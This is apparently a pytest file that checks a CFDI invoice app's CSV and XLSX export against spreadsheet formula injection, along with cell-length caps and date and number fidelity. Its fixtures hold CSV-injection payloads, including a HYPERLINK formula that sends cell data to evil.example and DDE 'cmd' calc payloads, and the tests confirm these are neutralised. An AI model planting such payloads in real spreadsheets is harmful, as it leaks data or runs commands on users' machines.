"""Issue 13, item 6: exports of other people's invoices must not carry formulas into a spreadsheet.

Names, series and folios come from whoever issued the CFDI: ``=HYPERLINK(…)`` in a name or ``@SUM(…)`` in a series
would run when the accountant opens the CSV (OWASP "CSV injection"). Each test writes a real file with
``core.export`` (or the real CLI: ``invoices import`` of crafted CFDI, then ``invoices list --format csv|xlsx``) and
reads it back. Before the fix every hostile cell was written verbatim and no cell was capped.
"""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from desktop_app.core.export import COLUMNS, write_csv, write_xlsx
from desktop_app.core.xmlsafe import parse

REPO = Path(__file__).resolve().parents[2]
NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
HOSTILE = {
    "issuer_name": '=HYPERLINK("http://evil.example/?d="&A1,"Ver factura")',
    "receiver_name": "+1+cmd|' /C calc'!A0",
    "series": "@SUM(1+1)*cmd|' /C calc'!A0",
    "folio": "-2+3",
    "payment_form": "\t=1+1",
    "cfdi_use": "\r=1+1",
}
NAMES = [name for name, _, _ in COLUMNS]
EXCEL_MAX_CELL = 32_767  # Excel's limit of characters (UTF-16 units) in a cell


def record(**values: object) -> dict:
    base = {
        "uuid": "499E9A70-36AC-448A-BBD9-F3F52102E4BE",
        "direction": "received",
        "type": "E",
        "status": "vigente",
        "issue_date": "2026-05-10T10:00:00",
        "issuer_rfc": "AAA010101AAA",
        "receiver_rfc": "EKU9003173C9",
        "currency": "MXN",
        "subtotal": "-5.00",  # a credit note's amounts as some tools write them: must stay a number
        "discount": "0.00",
        "total": "-5.00",
        "related_uuids": ["ED1752FE-E865-4FF2-BFE1-0F552E770DC9"],
    }
    base.update(values)
    return base


def read_csv(path: Path) -> list[dict[str, str]]:
    """Rows keyed by record field (the file's headers are Spanish: issue 17)."""
    text = path.read_bytes().decode("utf-8-sig")
    field = {title: name for name, title, _ in COLUMNS}
    return [{field[k]: v for k, v in row.items()} for row in csv.DictReader(io.StringIO(text, newline=""))]


def read_xlsx(path: Path) -> tuple[list[list[dict]], dict[str, str]]:
    """Rows of cells ``{"ref", "type", "style", "value", "formula"}`` and the style of each cellXfs index."""
    with zipfile.ZipFile(path) as zf:
        sheet = parse(zf.read("xl/worksheets/sheet1.xml"), huge=True)
        styles = parse(zf.read("xl/styles.xml"))
    xfs = styles.find("m:cellXfs", NS)
    quote_prefix = {str(i): xf.get("quotePrefix", "0") for i, xf in enumerate(xfs)}
    rows = []
    for row in sheet.iterfind(".//m:sheetData/m:row", NS):
        cells = []
        for c in row.iterfind("m:c", NS):
            text = c.find("m:is/m:t", NS)
            value = c.find("m:v", NS)
            cells.append(
                {
                    "ref": c.get("r"),
                    "type": c.get("t"),
                    "style": c.get("s", "0"),
                    "value": text.text if text is not None else (value.text if value is not None else None),
                    "formula": c.find("m:f", NS) is not None,
                }
            )
        rows.append(cells)
    return rows, quote_prefix


def by_column(cells: list[dict]) -> dict[str, dict]:
    letters = {}
    for cell in cells:
        letters["".join(ch for ch in cell["ref"] if ch.isalpha())] = cell
    return {name: letters.get(_letter(i)) for i, name in enumerate(NAMES)}


def _letter(index: int) -> str:
    letters = ""
    index += 1
    while index:
        index, rem = divmod(index - 1, 26)
        letters = chr(65 + rem) + letters
    return letters


def test_csv_text_cells_that_start_a_formula_get_a_quote_and_amounts_stay_numbers(tmp_path):
    """Before: ``=HYPERLINK(…)``, ``@SUM(…)``, ``-2+3`` … were written as they came."""
    path = tmp_path / "facturas.csv"
    assert write_csv([record(**HOSTILE)], path) == 1
    row = read_csv(path)[0]
    for name, value in HOSTILE.items():
        assert row[name] == "'" + value, name
    for name in ("subtotal", "total"):
        assert row[name] == "-5.00"  # a negative amount is a number, not text
    assert row["discount"] == "0.00"
    assert row["uuid"] == "499E9A70-36AC-448A-BBD9-F3F52102E4BE"  # nothing else touched
    first_chars = {cell[:1] for cell in row.values() if cell}
    assert not first_chars & {"=", "+", "@", "\t", "\r"}
    assert all(not cell.startswith("-") or cell == "-5.00" for cell in row.values())
    report: dict = {}
    write_csv([record(**HOSTILE)], tmp_path / "otra.csv", report=report)
    assert report == {"neutralized_cells": len(HOSTILE)}  # what the CLI reports


def test_csv_an_amount_column_that_holds_text_is_neutralised_too(tmp_path):
    path = tmp_path / "facturas.csv"
    write_csv([record(total="-2+3+cmd|' /C calc'!A0", exchange_rate="=1+1")], path)
    row = read_csv(path)[0]
    assert row["total"] == "'-2+3+cmd|' /C calc'!A0"
    assert row["exchange_rate"] == "'=1+1"


def test_xlsx_hostile_text_is_an_inline_string_with_a_quote_prefix_and_amounts_are_numbers(tmp_path):
    """Before: inline strings already, but no quote prefix (editing the cell turned it into a formula)."""
    path = tmp_path / "facturas.xlsx"
    write_xlsx([record(**HOSTILE)], path)
    rows, quote_prefix = read_xlsx(path)
    cells = by_column(rows[1])
    assert not any(cell["formula"] for row in rows for cell in row)
    for name, value in HOSTILE.items():
        cell = cells[name]
        assert cell["type"] == "inlineStr" and cell["value"] == value, name
        assert quote_prefix[cell["style"]] == "1", name
    total = cells["total"]
    assert total["type"] is None and total["value"] == "-5.00"  # a number cell
    assert quote_prefix[cells["issuer_rfc"]["style"]] == "0"


def test_xlsx_dates_excel_cannot_show_as_the_same_day_stay_text(tmp_path):
    """Before 1 March 1900 Excel's serials are negative (``#####``) or a day off: a CFDI dated 0001-01-01 or
    1899-12-31 was a date cell showing nothing or another day (an outside audit)."""
    path = tmp_path / "facturas.xlsx"
    dates = ("0001-01-01T00:00:00", "1899-12-31T12:00:00", "1900-02-28T00:00:00", "1900-03-01T00:00:00")
    write_xlsx([record(issue_date=day) for day in dates], path)
    rows, _ = read_xlsx(path)
    cells = [by_column(row)["issue_date"] for row in rows[1 : 1 + len(dates)]]
    assert [(c["type"], c["value"]) for c in cells[:3]] == [("inlineStr", day) for day in dates[:3]]
    assert (cells[3]["type"], cells[3]["value"], cells[3]["style"]) == (None, "61.0", "2")  # Excel's 01/03/1900


def test_xlsx_keeps_what_excel_would_change(tmp_path):
    """Outside audit: 99999999999999.99 (16 significant digits) went as a number Excel reads back as …99.98, and a
    concept «Café _x0041_» as a string Excel shows «Café A»."""
    path = tmp_path / "facturas.xlsx"
    write_xlsx(
        [record(total="99999999999999.99", subtotal="123456789012.345", issuer_name="Café _x0041_ _x00e9_")], path
    )
    cells = by_column(read_xlsx(path)[0][1])
    assert (cells["total"]["type"], cells["total"]["value"]) == ("inlineStr", "99999999999999.99")
    assert (cells["subtotal"]["type"], cells["subtotal"]["value"]) == (None, "123456789012.345")  # 15: a number
    with zipfile.ZipFile(path) as zf:
        sheet = zf.read("xl/worksheets/sheet1.xml").decode()
    assert "Café _x005F_x0041_ _x005F_x00e9_" in sheet


def test_xlsx_caps_every_cell_at_excels_limit_and_says_so(tmp_path):
    """Before: a 100,000-character name went in whole: Excel refuses such a file or cuts it silently."""
    path = tmp_path / "facturas.xlsx"
    long_name = "Proveedor " * 10_000  # 100,000 characters
    emoji_name = "😀" * 20_000  # 40,000 UTF-16 units: Excel counts those
    write_xlsx([record(issuer_name=long_name, receiver_name=emoji_name)], path)
    rows, _ = read_xlsx(path)
    cells = by_column(rows[1])
    for name, original in (("issuer_name", long_name), ("receiver_name", emoji_name)):
        value = cells[name]["value"]
        assert len(value.encode("utf-16-le")) // 2 <= EXCEL_MAX_CELL, name
        assert value.endswith("[…recortado]"), name
        kept = value.removesuffix(" […recortado]")
        assert original.startswith(kept) and len(kept) > 10_000
    report: dict = {}
    write_xlsx([record(issuer_name=long_name, receiver_name=emoji_name)], tmp_path / "otra.xlsx", report=report)
    assert report["truncated_cells"] == 2 and "neutralized_cells" not in report  # (+ the Conceptos sheet's counts)
    # in English the mark is English (before: «[…recortado]» in an English file)
    write_xlsx([record(issuer_name=long_name)], tmp_path / "en.xlsx", lang="en")
    english = by_column(read_xlsx(tmp_path / "en.xlsx")[0][1])["issuer_name"]["value"]
    assert english.endswith(" […truncated]") and len(english.encode("utf-16-le")) // 2 <= EXCEL_MAX_CELL


def test_csv_caps_a_field_at_excels_limit_and_says_so(tmp_path):
    """Before: the CSV kept a 100,000-character name whole (`truncated_cells: 0`): Excel cannot keep it either,
    and cut it when the file was opened, without a word."""
    long_name = "Proveedor " * 10_000
    report: dict = {}
    write_csv([record(issuer_name=long_name, receiver_name="=" + long_name)], tmp_path / "f.csv", report=report)
    (row,) = read_csv(tmp_path / "f.csv")
    assert len(row["issuer_name"]) <= EXCEL_MAX_CELL and row["issuer_name"].endswith(" […recortado]")
    assert long_name.startswith(row["issuer_name"].removesuffix(" […recortado]"))
    assert row["receiver_name"].startswith("'=") and len(row["receiver_name"]) == EXCEL_MAX_CELL  # its quote too
    assert report["truncated_cells"] == 2 and report["neutralized_cells"] == 1


def test_xlsx_stays_valid_xml_with_control_characters_and_undecodable_file_names(tmp_path):
    """Before: a control character made an .xlsx Excel cannot open; a lone surrogate raised UnicodeEncodeError."""
    path = tmp_path / "facturas.xlsx"
    write_xlsx([record(issuer_name="Nombre\x01con\x0bcontrol", path="/tmp/\udcff\udcfe.xml")], path)
    rows, _ = read_xlsx(path)  # parses: valid XML
    cells = by_column(rows[1])
    assert cells["issuer_name"]["value"] == "Nombre\ufffdcon\ufffdcontrol"
    assert cells["path"]["value"] == "/tmp/\ufffd\ufffd.xml"
    csv_path = tmp_path / "facturas.csv"
    write_csv([record(path="/tmp/\udcff\udcfe.xml")], csv_path)
    assert read_csv(csv_path)[0]["path"] == "/tmp/\ufffd\ufffd.xml"


# -- the real CLI: crafted CFDI imported, then exported ----------------------------------------------------

RFC = "EKU9003173C9"


def hostile_cfdi() -> bytes:
    """A stamped CFDI 4.0 whose issuer name, series and folio are formulas (attribute values XML-escaped)."""
    from xml.sax.saxutils import quoteattr

    return (
        '<?xml version="1.0" encoding="UTF-8"?><cfdi:Comprobante xmlns:cfdi="http://www.sat.gob.mx/cfd/4" '
        'Version="4.0" TipoDeComprobante="I" Fecha="2026-05-10T10:00:00" SubTotal="100.00" Total="116.00" '
        f'Moneda="MXN" MetodoPago="PUE" Serie={quoteattr(HOSTILE["series"])} Folio={quoteattr(HOSTILE["folio"])}>'
        f'<cfdi:Emisor Rfc="AAA010101AAA" Nombre={quoteattr(HOSTILE["issuer_name"])}/>'
        f'<cfdi:Receptor Rfc="{RFC}" Nombre="@SUM(A1:A9)" UsoCFDI="G03"/><cfdi:Complemento>'
        '<tfd:TimbreFiscalDigital xmlns:tfd="http://www.sat.gob.mx/TimbreFiscalDigital" Version="1.1" '
        'UUID="0000ABCD-1111-4222-8333-444455556666" FechaTimbrado="2026-05-10T10:00:00"/>'
        "</cfdi:Complemento></cfdi:Comprobante>"
    ).encode()


def run_cli(home: Path, *args: str) -> dict:
    import json

    env = {**os.environ, "PYTHON_KEYRING_BACKEND": "keyring.backends.fail.Keyring"}
    env["DESCARGA_MASIVA_SAT_URL"] = "http://127.0.0.1:9"  # never SAT
    proc = subprocess.run(
        [sys.executable, "-m", "desktop_app", "--home", str(home), *args],
        cwd=REPO,
        env=env,
        capture_output=True,
        timeout=120,
        check=False,
    )
    assert proc.returncode == 0, proc.stderr.decode(errors="replace")
    return json.loads(proc.stdout.decode("utf-8"))


@pytest.fixture(scope="module")
def exported(tmp_path_factory) -> tuple[Path, dict, dict]:
    base = tmp_path_factory.mktemp("export")
    home = base / "home"
    folder = base / "xml"
    folder.mkdir()
    (folder / "hostil.xml").write_bytes(hostile_cfdi())
    run_cli(home, "profile", "add", RFC)
    imported = run_cli(home, "invoices", "import", str(folder))["data"]
    assert imported["added"] == 1, imported
    csv_doc = run_cli(home, "invoices", "list", "--format", "csv", "--output", str(base / "f.csv"))["data"]
    xlsx_doc = run_cli(home, "invoices", "list", "--format", "xlsx", "--output", str(base / "f.xlsx"))["data"]
    return base, csv_doc, xlsx_doc


def test_cli_csv_export_of_a_hostile_invoice_has_no_formula(exported):
    base, doc, _ = exported
    row = read_csv(base / "f.csv")[0]
    assert row["issuer_name"] == "'" + HOSTILE["issuer_name"]
    assert row["series"] == "'" + HOSTILE["series"]
    assert row["folio"] == "'" + HOSTILE["folio"]
    assert row["receiver_name"] == "'@SUM(A1:A9)"
    assert row["total"] == "116.00" or row["total"] == "116"
    assert doc["neutralized_cells"] == 4


def test_cli_xlsx_export_of_a_hostile_invoice_keeps_it_text(exported):
    base, _, doc = exported
    rows, quote_prefix = read_xlsx(base / "f.xlsx")
    cells = by_column(rows[1])
    for name in ("issuer_name", "series", "folio", "receiver_name"):
        assert cells[name]["type"] == "inlineStr" and not cells[name]["formula"]
        assert quote_prefix[cells[name]["style"]] == "1", name
    assert cells["issuer_name"]["value"] == HOSTILE["issuer_name"]
    assert doc["neutralized_cells"] == 4 and doc["truncated_cells"] == 0
